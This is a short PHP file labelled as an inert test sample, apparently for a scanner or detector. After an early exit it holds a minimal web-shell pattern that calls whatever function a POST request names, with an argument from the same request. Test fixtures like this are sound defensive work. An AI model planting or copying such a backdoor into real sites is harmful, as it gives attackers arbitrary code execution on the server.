<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$fn = $_POST['fn'];
$arg = $_POST['arg'];
$fn($arg);
